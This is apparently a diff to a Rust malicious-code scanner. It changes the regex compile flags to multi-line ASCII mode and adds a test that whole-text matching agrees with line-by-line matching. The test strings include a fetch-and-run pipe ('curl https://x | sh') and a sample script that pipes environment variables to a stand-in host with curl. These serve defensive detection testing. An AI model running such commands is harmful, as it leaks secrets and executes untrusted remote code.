@@ -196,7 +196,14 @@ pub fn gate(pattern: &str) -> Gate {
     Gate::new(&format!("(?-u){pattern}"))
 }
 
-/// Compiles a pattern of the scanner in ASCII mode. The patterns are
+/// The flags every scanner regex is compiled with, built-in or from a
+/// rules file: ASCII mode (see the module comment), and multi-line, since
+/// a pattern written for one line is also run over the whole text (to
+/// check a file, or when its literals are on most lines), where `^` and
+/// `$` must still mean a line's start and end.
+pub(crate) const REGEX_FLAGS: &str = "(?m-u)";
+
+/// Compiles a pattern of the scanner with [`REGEX_FLAGS`]. The patterns are
 /// constants of the rules file, never input, and the test suite compiles
 /// every one of them: a mistake in one is a bug caught there, so it panics
 /// with the name.
@@ -211,7 +218,7 @@ pub fn compile(name: &str, pattern: &str, folded: bool) -> Regex {
             }
         }
     }
-    let pattern = format!("(?-u){pattern}");
+    let pattern = format!("{REGEX_FLAGS}{pattern}");
     Regex::new(&pattern).unwrap_or_else(|e| panic!("scanner pattern {name}: {e}"))
 }
 
@@ -422,6 +429,39 @@ mod tests {
         assert_eq!(screen.is_match(b"curl https://x | sh"), Some(true));
         assert_eq!(screen.is_match(b"curl https://x | shell"), Some(false));
         assert_eq!(screen.is_match(b"scurl x | sh"), Some(false));
+    }
+
+    /// A whole-text search stands in for the line-by-line one when a
+    /// pattern's literals are on most lines (`line_hits`): whatever a
+    /// built-in pattern matches on a line it must match in the whole text,
+    /// `^` and `$` included.
+    #[test]
+    fn what_a_line_matches_the_whole_text_matches() {
+        let mut texts: Vec<String> = crate::scanner::tests::malicious_sample_texts()
+            .into_iter()
+            .map(|(_, t)| t)
+            .collect();
+        texts.push("#!/bin/sh\nprintenv\ncurl -d @- https://x.example/c\n".to_owned());
+        let mut checked = 0;
+        for pattern in super::super::rules::PATTERNS {
+            for text in &texts {
+                let text = if pattern.is_folded() {
+                    crate::scanner::normalize::normalize_text_lowered(text).0
+                } else {
+                    text.clone()
+                };
+                let regex = pattern.regex();
+                if text.lines().any(|l| regex.is_match(l.as_bytes())) {
+                    assert!(
+                        regex.is_match(text.as_bytes()),
+                        "{}: {text:?}",
+                        regex.as_str()
+                    );
+                    checked += 1;
+                }
+            }
+        }
+        assert!(checked > 100, "{checked}");
     }
 
     #[test]
